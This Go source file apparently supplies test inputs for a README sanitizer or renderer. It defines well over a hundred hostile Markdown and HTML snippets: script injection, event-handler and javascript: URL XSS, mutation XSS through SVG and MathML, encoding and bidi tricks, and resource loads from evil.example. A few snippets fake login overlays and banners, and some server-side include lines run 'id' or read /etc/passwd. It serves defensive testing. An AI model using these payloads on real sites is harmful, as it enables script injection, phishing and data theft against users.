package hostile

import (
	"slices"
	"strings"
)

// Text is a text that attacks a page. A script in it that runs shows a dialog.
type Text struct{ Name, Content string }

// Readmes returns small READMEs whose authors try more than text and links. The
// names are unique.
func Readmes() []Text { return slices.Concat(readmes, moreReadmes) }

var readmes = []Text{
	{"script", `<script>alert(1)</script>`},
	{"script in a paragraph", `a <script>alert(1)</script> b`},
	{"script in capitals", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`},
	{"script in a script", `<scr<script>ipt>alert(1)</scr</script>ipt>`},
	{"script that is open", "<script>\nalert(1)\n\n# a"},
	{"script with a slash", `<script/x>alert(1)</script>`},
	{"script with a NUL", "<scr\x00ipt>alert(1)</scr\x00ipt>"},
	{"script in a comment", `<!--><script>alert(1)</script>-->`},
	{"script in CDATA", `<![CDATA[<script>alert(1)</script>]]>`},
	{"script in an attribute", `<a title="</a><script>alert(1)</script>">a</a>`},
	{"script in a code block", "```html\n<script>alert(1)</script>\n```"},
	{"script in a code span", "`<script>alert(1)</script>`"},
	{"script in a language", "```\"><script>alert(1)</script>\na\n```"},
	{"script as entities", `&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;`},
	{"script in an alt text", `![<script>alert(1)</script>](https://a.example/b.png)`},
	{"script in a title", `[a](https://a.example "<script>alert(1)</script>")`},
	{"script in a heading", `# <script>alert(1)</script> "onclick="x`},
	{"script in a table", "a|b\n-|-\n<script>alert(1)</script>|\"><script>"},
	{"script in HCL", "```hcl\na = \"</code></pre><script>alert(1)</script>\"\n```"},
	{"script in a comment of HCL", "```hcl\n# </span></code><script>alert(1)</script>\n```"},
	{"style", `<style>*{background:url(//evil.example)}</style>`},
	{"style attribute", `<p style="position:fixed;inset:0">a</p>`},
	{"class and id", `<div class="key" id="inputs">a</div>`},
	{"class of code", `<code class="language-hcl evil">a = 1</code>`},
	{"span with a class", `<span class="key">a</span>`},
	{"handler", `<a href="https://a.example" onclick="alert(1)">a</a>`},
	{"handler of an image", `<img src=x onerror=alert(1)>`},
	{"handler of details", `<details open ontoggle=alert(1)>a</details>`},
	{"handler with a slash", `<img/src="x"/onerror=alert(1)>`},
	{"handler after a quote", `<img src="x" alt="a"onerror="alert(1)">`},
	{"other class", `<span class="banner">a</span>`},
	{"other rel", `<a href="https://a.example" rel="opener">a</a>`},
	{"iframe", `<iframe src="https://evil.example"></iframe>`},
	{"iframe with srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
	{"object and embed", `<object data="x"><embed src="x"></object>`},
	{"form", `<form action="//evil.example"><input name=a><button formaction=x>Log in</button></form>`},
	{"textarea and title", `<textarea></textarea><title></title><script>alert(1)</script>`},
	{"attributes that pages complete", `<img data-image="javascript:alert(1)" src="x" loading="eager">` +
		`<a data-file="//evil.example" data-folder="..">a</a>`},
	{"images of other files", `![a](main.tf) ![b](../../../x.svg) ![c](<a"b.svg>) <img src="data:image/svg+xml,<svg onload=alert(1)>">`},
	{"footnotes with scripts", "a[^<script>] b[^\"]\n\n[^<script>]: <script>alert(1)</script>\n[^\"]: [x](javascript:alert(1))"},
	{"alert with a script", "> [!CAUTION]\n> <script>alert(1)</script>\n\n- [x] <img src=x onerror=alert(1)>"},
	{"select", `<select><option><script>alert(1)</script></select>`},
	{"button and dialog", `<button popovertarget=a>a</button><dialog open>b</dialog>`},
	{"SVG", `<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">a</a></svg>`},
	{"SVG with a style", `<svg><style><img src=x onerror=alert(1)></style></svg>`},
	{"SVG animation", `<svg><animate attributeName=href values=javascript:alert(1) /></svg>`},
	{"MathML", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>`},
	{"noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`},
	{"template", `<template><script>alert(1)</script></template>`},
	{"plaintext", "<plaintext>\n\n# a"},
	{"xmp", `<xmp><script>alert(1)</script></xmp>`},
	{"base", `<base href="https://evil.example/">`},
	{"meta", `<meta http-equiv="refresh" content="0;url=https://evil.example">`},
	{"link element", `<link rel=stylesheet href="https://evil.example/x.css">`},
	{"body and html", `<html><body onload=alert(1)></body></html>`},
	{"frameset", `<frameset><frame src=x></frameset>`},
	{"video and audio", `<video src=x onerror=alert(1)><audio autoplay src=x></video>`},
	{"picture", `<picture><source srcset="https://evil.example/x"><img srcset="x" src="https://a.example/b"></picture>`},
	{"map and area", `<map name=a><area href="javascript:alert(1)"></map>`},
	{"custom element", `<x-evil is="a" slot="b">a</x-evil>`},
	{"portal", `<portal src=https://evil.example></portal><fencedframe></fencedframe>`},
	{"font and marquee", `<font color=red>a</font><marquee>b</marquee><blink>c</blink>`},
	{"javascript", `[a](javascript:alert(1)) <a href="javascript:alert(1)">b</a>`},
	{"javascript in capitals", `[a](JaVaScRiPt:alert(1)) <a href=" JAVASCRIPT:alert(1)">b</a>`},
	{"javascript with a tab", "<a href=\"java\tscript:alert(1)\">a</a> <a href=\"java&#10;script:alert(1)\">b</a>"},
	{"javascript with a control", "<a href=\"\x01javascript:alert(1)\">a</a> [b](<\u0001javascript:alert(1)>)"},
	{"javascript with entities", `<a href="&#106;avascript&colon;alert(1)">a</a> [b](&#x6A;avascript&colon;alert(1))`},
	{"javascript with escapes", `[a](javascript\:alert(1)) [b](%6Aavascript:alert(1))`},
	{"javascript by reference", "[a]\n\n[a]: javascript:alert(1)"},
	{"javascript in a bracket", `<javascript:alert(1)>`},
	{"javascript in an image", `![a](javascript:alert(1)) <img src="javascript:alert(1)">`},
	{"data URL", `[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml,<svg/onload=alert(1)>)`},
	{"vbscript", `[a](vbscript:msgbox) <a href=vbscript:x>b</a>`},
	{"file and ftp", `[a](file:///etc/passwd) [b](ftp://a.example) ftp://a.example <ftp://a.example>`},
	{"blob and about", `[a](blob:https://a.example/x) [b](about:blank) [c](view-source:https://a.example)`},
	{"host without a scheme", `[a](//evil.example) <a href="\\evil.example">b</a> [c](/\evil.example)`},
	{"path of the registry", `[a](/logout) [b](?q=1) [c](../../../logout) <a href="/v1/x">d</a>`},
	{"name of a user", `[a](https://registry.example.com@evil.example/)`},
	{"scheme without a host", `[a](https:evil.example) [b](http:///evil.example) [c](mailto:)`},
	{"quote in a URL", `[a](https://a.example/"onclick="alert(1)) <a href='https://a.example/" x="'>b</a>`},
	{"bracket in a URL", `[a](<https://a.example/"><script>alert(1)</script>)`},
	{"bidi control in a URL", "[a](https://a.example/\u202Egpj.exe) <https://a.example/\u2066>"},
	{"bidi control in a host", "[a](https://a\u202E.example)"},
	{"bidi control in a heading", "# a\u202Eb\n[c](#a\u202Eb)"},
	{"anchor of the page", `[a](#input-name) <a name="inputs"></a> <a id="inputs">b</a> [c](#inputs)`},
	{"anchor with a quote", `<a name='"><script>alert(1)</script>'></a> [a](#"><script>)`},
	{"anchor twice", "<a name=a></a>\n\n# a\n\n# a\n\n<a id=a></a> <a id=a-1></a>"},
	{"folder with a quote", `[a](modules/a"onclick=) [b](modules/../..) <a href='modules/x" y="'>c</a>`},
	{"own attribute", `<a data-folder="modules/../../logout" href="x">a</a> <a data-folder="//evil.example">b</a>`},
	{"end tags", "</div></section></main></body></html>\n\n# a"},
	{"end tags in a list", "- a </li></ul></section>\n- b\n\n</ul></section>"},
	{"end tags in a table", "a|b\n-|-\n</td></tr></table></section>|c"},
	{"end tags in a quote", "> </blockquote></section>\n> a"},
	{"end tags in code", "```\n</code></pre></section>\n```"},
	{"open elements", "<div><details><table><tr><td><b><i><a href=https://a.example>"},
	{"open comment", "a\n\n<!-- open\n\n# b"},
	{"open attribute", "<a href=\"https://a.example\n\n# b"},
	{"crossed elements", `<b><p><i>a</b>b</p>c</i><a href=https://a.example><div></a>d</div>`},
	{"table parts", `<td>a<tr>b<caption>c<tbody></table><table><b><td><table><tr></table></table>`},
	{"list items", `<li>a<dd>b<summary>c</summary><dt>d`},
	{"table in a paragraph", "a <table><tr><td>b</table> <p>c <h1>d</h1>"},
	{"headings in headings", "# a <h1>b <h2>c</h2>\n<h1>d <h2>e\n\n# f"},
	{"links in links", `[a [b](https://b.example)](https://a.example) <a ` +
		`href=https://c.example>[d](https://d.example) <a href=https://e.example>f`},
	{"breaks", "<br/></br><hr/></hr><p/></p></p>"},
	{"large span", `<table><tr><td colspan=99999999 rowspan=-1 align="left;x">a</table><ol start=-99999999999>`},
	{"namespaces", `<svg:script>alert(1)</svg:script><html:img src=x>`},
	{"conditional comment", `<!--[if IE]><script>alert(1)</script><![endif]-->`},
	{"processing instruction", `<?xml version="1.0"?><?php echo 1 ?><!DOCTYPE html>`},
	{"invalid UTF-8", "<a href=\"https://a.example\xff\">\xc3</a> \xf0\x9f `\xff`"},
	{"other encoding", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"},
	{"controls", "\x00\x01\x08\x0b\x0c\x1b[31m\x7f a\rb `\x00\x1b`"},
	{"generated comment", "<!-- BEGIN_TF_DOCS --><script>\n<!-- BEGIN_TF_DOCS -->\n<script>\n<!-- END_TF_DOCS " +
		"-->\n</script>"},
}

// moreReadmes attack the page around a README, and parsers that read the HTML
// again.
var moreReadmes = []Text{
	{"clobbered document", `<a name="body"></a><a id="cookie"></a><img name="head" src=x><form id="location"></form>`},
	{"clobbered prototype", "# __proto__\n\n# constructor\n\n# toString\n\n[a](#__proto__) [b](#constructor)"},
	{"anchors of sections", "# inputs\n\n# main\n\n<a id=\"main\"></a><a name=\"output-a\"></a>\n\n[a](#main) " +
		"[b](#input-a)"},
	{"anchor of the skip", `<a class="skip" href="#main">Skip to content</a>`},
	{"anchor of many letters", "# " + strings.Repeat("a", 5_000)},
	{"anchor with bidi", "# \u202Emain\u2066\n\n[a](#\u202Emain) [b](#main)"},
	{"mutation of MathML", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ` +
		`onerror=alert(1)&gt;">`},
	{"mutation of SVG", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`},
	{"mutation of a form", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`},
	{"mutation of noscript", `<noscript><a title="</noscript><img src=x onerror=alert(1)>">a</a></noscript>`},
	{"mutation of a title", `<svg><title><style><img src=x onerror=alert(1)></style></title></svg>`},
	{"mutation of annotations", `<math><annotation-xml encoding="text/html"><style><img src=x ` +
		`onerror=alert(1)></style></annotation-xml></math>`},
	{"mutation of a select", `<select><template><style><!--</style><a ` +
		`rel="--></style></template></select><script>alert(1)</script>">`},
	{"mutation of backquotes", "<a title=\"``onmouseover=alert(1)\">a</a> <img alt=\"``onload=alert(1)\" src=x>"},
	{"mutation of nested links", `<a href="https://a.example"><table><a href="javascript:alert(1)">b</a></table></a>`},
	{"foreign object", `<svg><foreignObject><body onload=alert(1)><script>alert(1)</script></foreignObject></svg>`},
	{"SVG use", `<svg><use href="data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x"></svg>`},
	{"SVG image", `<svg><image href="https://evil.example/a.png" onerror=alert(1)></svg>`},
	{"SVG set", `<svg><a><set attributeName=href to=javascript:alert(1) /><text>a</text></a></svg>`},
	{"MathML link", `<math href="javascript:alert(1)"><maction ` +
		`actiontype="statusline#https://evil.example">a</maction></math>`},
	{"comment with a bang", `<!--! --!><img src=x onerror=alert(1)> -->`},
	{"comment in a comment", `<!-- <!-- --> <img src=x onerror=alert(1)> -->`},
	{"comment with a dash", `<!---><img src=x onerror=alert(1)>-->`},
	{"comment of Markdown", "[//]: # (<script>alert(1)</script>)\n\n[comment]: <> (\"><script>alert(1)</script>)"},
	{"CDATA that is open", "<![CDATA[ a\n\n# b <img src=x onerror=alert(1)>"},
	{"CDATA in SVG", `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`},
	{"declaration that is open", "<!DOCTYPE html [ <!ENTITY a \"<script>alert(1)</script>\"> a\n\n# b"},
	{"instruction that is open", "<?xml-stylesheet href=\"https://evil.example/x.css\" a\n\n# b"},
	{"textarea that is open", "<textarea>\n\n# a\n\n<script>alert(1)</script>"},
	{"title that is open", "<title>\n\n# a"},
	{"noscript that is open", "<noscript>\n\n<img src=x onerror=alert(1)>"},
	{"template that is open", "<template>\n\n<img src=x onerror=alert(1)>"},
	{"style that is open", "<style>\n\n@import \"https://evil.example/x.css\";"},
	{"select that is open", "<select><option>\n\n# a"},
	{"svg that is open", "<svg><desc>\n\n<img src=x onerror=alert(1)>\n\n# a"},
	{"frames in a table", "a|b\n-|-\n<iframe src=https://evil.example></iframe>|<object " +
		"data=https://evil.example></object>"},
	{"handlers in a table", "a|b\n-|-\n<b onclick=alert(1)>c</b>|<td onmouseover=alert(1)>"},
	{"table around the page", "</td></tr></tbody></table></main><table><tr><td>a"},
	{"handler without a mouse", `<div onpointerrawupdate=alert(1) onfocusin=alert(1) tabindex=0 autofocus ` +
		`contenteditable>a</div>`},
	{"handler of an animation", `<b style="animation:x" onanimationstart=alert(1) onanimationend=alert(1)>a</b>`},
	{"handler of a popover", `<button popovertarget=x>a</button><div popover id=x onbeforetoggle=alert(1)>b</div>`},
	{"handler of a scroll", `<div onscrollend=alert(1) onscrollsnapchange=alert(1)>a</div><a href="#readme-a" ` +
		`name=a>b</a>`},
	{"handler of marks", `<mark onclick=alert(1)>a</mark><kbd onkeydown=alert(1) accesskey=x>b</kbd>`},
	{"hidden until found", `<div hidden=until-found onbeforematch=alert(1)>a</div>`},
	{"import of styles", `<style>@import url(https://evil.example/x.css);@font-face{src:url(//evil.example)}</style>`},
	{"preload", `<link rel=preload as=script href=//evil.example/x.js><link rel=dns-prefetch href=//evil.example>`},
	{"speculation", `<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>`},
	{"import map", `<script type=importmap>{"imports":{"a":"https://evil.example/x.js"}}</script>`},
	{"ping", `<a href="https://a.example" ping="https://evil.example/ping" download target=_top>a</a>`},
	{"attribution", `<a attributionsrc="https://evil.example" href="https://a.example">a</a>`},
	{"lazy image", `<img loading=lazy src=https://evil.example/a.png><img srcset="https://evil.example/b.png 2x">`},
	{"input image", `<input type=image src=https://evil.example/a.png formaction=javascript:alert(1)>`},
	{"track and source", `<video poster=https://evil.example/a.png><track src=//evil.example/b.vtt default></video>`},
	{"background", `<table background=https://evil.example/a.png><td background=//evil.example/b.png>a</table>`},
	{"meta policy", `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name=referrer ` +
		`content=unsafe-url>`},
	{"meta cookie", `<meta http-equiv="Set-Cookie" content="session=evil">`},
	{"meta in a comment", "<!--\n\n--><meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">"},
	{"base in a list", "- <base href=//evil.example target=_blank>\n- [a](b)"},
	{"form to log in", "<form action=/login method=post><input name=token type=password value=x><input " +
		"type=submit></form>"},
	{"form to log out", "<form action=/logout method=post id=x></form><button form=x>a</button>"},
	{"field of another form", `<input form=search name=q value=evil><textarea form=search name=q></textarea>`},
	{"autolinks", "<javascript:alert(1)> <data:text/html,x> https://a.example/<script>alert(1)</script> " +
		"www.a.example\"onclick=alert(1)"},
	{"autolink with a quote", `https://a.example/"onmouseover="alert(1) www.a.example'onclick='alert(1)'`},
	{"autolink in a tag", `<https://a.example/"><img src=x onerror=alert(1)>>`},
	{"mail", `<mailto:a@a.example?subject="><script>alert(1)</script>> ` +
		`[a](mailto:a@a.example?body=%0d%0aBcc:b@b.example) a@a.example`},
	{"references", "[a][x] [b][y] ![c][z]\n\n[x]: JaVaScRiPt:alert(1) \"<script>\"\n[y]: <data:text/html,x>\n[z]: " +
		"//evil.example/a.png 'onerror=alert(1)'"},
	{"reference with breaks", "[a]\n\n[a]:\njavascript:alert(1)\n\"\nb\n\""},
	{"javascript with a break", "[a](java\nscript:alert(1)) <a href=\"java\nscript:alert(1)\">b</a> <a " +
		"href='java\x00script:alert(1)'>c</a>"},
	{"javascript in a path", `[a](./javascript:alert(1)) [b](modules/javascript:alert(1)) ` +
		`[c](modules/a/../../javascript:alert(1))`},
	{"javascript over https", `[a](https://a.example/javascript:alert(1)) [b](https:javascript:alert(1)) ` +
		`[c](https://javascript:alert(1)@a.example)`},
	{"schemes", "[a](livescript:x) [b](mocha:x) [c](jar:x) [d](mhtml:x) [e](ms-its:x) [f](intent:x) [g](web+x:y) " +
		"[h](tel:1) [i](sms:1)"},
	{"schemes with spaces", "[a]( javascript:alert(1)) [b](<\tjavascript:alert(1)>) <a " +
		"href=\"\u00a0javascript:alert(1)\">c</a>"},
	{"scheme of other letters", "[a](\uff4aavascript:alert(1)) [b](java\u200bscript:alert(1)) " +
		"[c](javascript\uff1aalert(1))"},
	{"hosts", `[a](https://a.example\@evil.example) [b](https://a.example%2f@evil.example) [c](https://[::1]:bad/) ` +
		`[d](https://%00/)`},
	{"URL of an image", "![a](https://evil.example/a.png) ![b](data:image/gif;base64,R0lGODlhAQABAAAAACw=) " +
		"![c](blob:https://a.example/b)"},
	{"folder as a scheme", `<a data-folder="javascript:alert(1)">a</a><a data-folder=modules/a ` +
		`data-folder="//evil">b</a>`},
	{"folder above", `[a](modules/..%2f..%2flogout) [b](./modules/../../logout) [c](modules/a?x=1#y) [d](modules//a)`},
	{"folder in text", "` data-folder=\"modules/a\"` data-folder=\"modules/r000\" &lt;a data-folder=\"modules/a\"&gt;"},
	{"folder in code", "```html\n<a data-folder=\"modules/a\">\n```\n\n```\n data-folder=\"modules/a\"\n```"},
	{"folder in a URL", `[a](https://a.example/?%20data-folder="modules/a") <a href='https://a.example/" ` +
		`data-folder="modules/a'>b</a>`},
	{"language with attributes", "```hcl\" onclick=\"alert(1)\nvariable \"a\" {}\n```\n\n~~~ " +
		"javascript:alert(1)\na\n~~~"},
	{"language with a tag", "```</code><script>alert(1)</script>\na\n```\n\n``` {.class #main " +
		"onclick=alert(1)}\na\n```"},
	{"HCL with tags", "```hcl\nvariable \"</span><script>alert(1)</script>\" {\n  default = \"${\"</code>\"}<img " +
		"src=x onerror=alert(1)>\"\n}\n```"},
	{"HCL with a heredoc", "```hcl\na = <<EOT\n</pre></details><script>alert(1)</script>\nEOT\n```"},
	{"diagram", "```mermaid\ngraph LR; a[\"<img src=x onerror=alert(1)>\"] --> b; click b " +
		"\"javascript:alert(1)\"\n```\n\n$$\\href{javascript:alert(1)}{a}$$"},
	{"alert of GitHub", "> [!NOTE]\n> <script>alert(1)</script>\n\n> [!\"><img src=x onerror=alert(1)>]\n> a"},
	{"footnotes", "a[^1] b[^\"><script>]\n\n[^1]: <img src=x onerror=alert(1)>\n[^\"><script>]: c"},
	{"front matter", "---\nlayout: \"<script>alert(1)</script>\"\n---\n\n# a"},
	{"tasks", "- [x] <input type=checkbox onclick=alert(1) checked>\n- [ ] a"},
	{"template syntax", "{{.}} {{ html \"<script>\" }} {{define \"layout\"}}x{{end}} <% alert(1) %> ${alert(1)} #{x} " +
		"{% raw %} [[x]]"},
	{"server side includes", `<!--#include virtual="/etc/passwd" --><!--#exec cmd="id" --><esi:include ` +
		`src="https://evil.example"/>`},
	{"details around the page", "<details><summary>a</summary>\n\n</details></section></main><footer>evil</footer>"},
	{"closers of every element", "</a></bdi></td></tr></table></pre></code></details></li></ul></dl></section></m" +
		"ain></body></html></script></style></title>"},
	{"bidi in text", "a \u202Egpj.exe\u202C \u2066b\u2069 \u200Fc \u061Cd"},
	{"bidi in code", "`a \u202E } \u2066if admin\u2069` \n\n```hcl\nvariable \"\u202Ea\" { default = \"\u2067b\" } # " +
		"\u202A\n```"},
	{"bidi in a link", "[https://a.example/\u202Egro.elpmaxe](https://a.example/) [\u2066a](https://a.example/\u2069)"},
	{"bidi entities", "a &#x202E;gpj.exe &#8238;b &#x2066;c <b title=\"&#x202e;\">d</b> " +
		"[e](https://a.example/&#x202E;f)"},
	{"bidi in HTML", `<b dir=rtl>a</b><bdo dir=rtl>b</bdo><bdi>c</bdi><p dir=auto>d</p>`},
	{"zero width", "<scr\u200bipt>alert(1)</scr\u200bipt> a\u200d\u200c\ufeff\u2060b <\u200bscript>alert(1)</script>"},
	{"combining marks", strings.Repeat("a"+strings.Repeat("\u0301", 500)+" ", 20)},
	{"tags and private use", "\U000e0001\U000e0041\U000e007f \ue000 \ufdd0 \uffff \U0010ffff"},
	{"line separators", "a\u2028b\u2029c\u0085d `e\u2028f` [g](https://a.example/\u2028h)"},
	{"C1 controls", "a\u009b31mb\u0085c `\u009d0;d\u009c` [e](https://a.example/\u0085f)"},
	{"NUL", "<\x00b>a</b> <img\x00src=x onerror=alert(1)> &#0;&#x0; `\x00` [a](https://a.example/\x00)"},
	{"BOM", "\ufeff# a\n\n\ufeff<script>alert(1)</script>"},
	{"UTF-16", "\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00"},
	{"overlong UTF-8", "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe \xe0\x80\xbcb\xe0\x80\xbe"},
	{"UTF-8 broken by a tag", "\xf0<script>alert(1)</script>\xe2\x80<img src=x onerror=alert(1)>\xc3\""},
	{"surrogates", "\xed\xa0\xbc\xed\xbc\x80<b>a</b>\xed\xa0\x80"},
	{"ISO-2022-JP", "\x1b$B<script>alert(1)</script>\x1b(B <img title=\"\x1b$B\" src=x onerror=alert(1)>"},
	{"entities without ends", "&lt;script&gtalert(1)&lt/script &ltimg src=x onerror=alert(1)&gt &#60 &#x3c &LT; " +
		"&nvlt; &bsol;"},
	{"entities in entities", "&amp;lt;script&amp;gt; &amp;amp;lt; <a " +
		"href=\"https://a.example/?a=1&amp;lt=2&quot;onclick=&quot;\">a</a>"},
	{"tag without a name", "< script>alert(1)</ script> <\nscript>alert(1) <> </> <=a> <1a> <%a>"},
	{"attributes twice", `<a href="https://a.example" href="javascript:alert(1)" HREF=javascript:alert(1)>a</a>`},
	{"attributes without quotes", "<a href=https://a.example/onclick=alert(1)>a</a> <a href=`https://a.example` " +
		"onclick=`alert(1)`>b</a>"},
	{"headings of other levels", "<h1 id=main>a</h1><h2 onclick=alert(1)>b</h2><hgroup><h7>c</h7></hgroup>" +
		"\n\na\n=\n\n<h1>"},
	{"name of the module", "# readmes <script>alert(1)</script>"},
	{"page over the page", "<dialog open>a</dialog><div style=\"position:fixed;inset:0;z-index:9\">Log in " +
		"again</div><main>b</main>"},
	{"false banner", `<div class="banner bad" role="alert"><strong>4.1.0 is deprecated.</strong></div><span ` +
		`class="badge ok">latest</span>`},
	{"false provenance", `<section id="provenance"><h2>Provenance</h2>Published by a verified CI job</section>`},
}

// LargeReadmes returns READMEs of about size bytes. The names are unique.
func LargeReadmes(size int) []Text {
	nested := func(open, inner, closing string) string {
		n := size / (len(open) + len(closing))
		return strings.Repeat(open, n) + inner + strings.Repeat(closing, n)
	}
	indented := func(item string) string {
		var out strings.Builder
		for i := 0; out.Len() < size; i++ {
			out.WriteString(strings.Repeat("  ", i) + item + "\n")
		}
		return out.String()
	}
	return []Text{
		{"nested quotes", nested("> ", "a", "")},
		{"nested lists", indented("- a")},
		{"nested lists in one line", nested("- ", "a", "")},
		{"nested emphasis", nested("*a ", "b", " c*")},
		{"nested strong", nested("**a ", "b", " c**")},
		{"nested brackets", nested("[", "a", "](b)")},
		{"nested images", nested("![", "a", "](https://a.example/b.png)")},
		{"nested elements", nested("<div><b>", "<script>alert(1)</script>", "</b></div>")},
		{"nested tables", nested("<table><tr><td>", "a", "</td></tr></table>")},
		{"nested lists of HTML", nested("<ul><li>", "a", "")},
		{"nested details", nested("<details><summary>a</summary>", "b", "")},
		{"nested SVG", nested("<svg><g>", "<script>alert(1)</script>", "")},
		{"ampersands", nested("&", "", "")},
		{"tags", nested("<", "", ">")},
		{"quotes", nested("\"'", "", "")},
		{"bidi in code", "```\n" + nested("\u202E", "", "") + "\n```"},
		{"links", nested("[a](https://a.example/b) ", "", "")},
		{"headings", nested("# a\n\n", "", "")},
		{"numbers of HCL", "```hcl\na = [" + nested("1,", "", "") + "]\n```"},
		{"one word", nested("a", "", "")},
	}
}
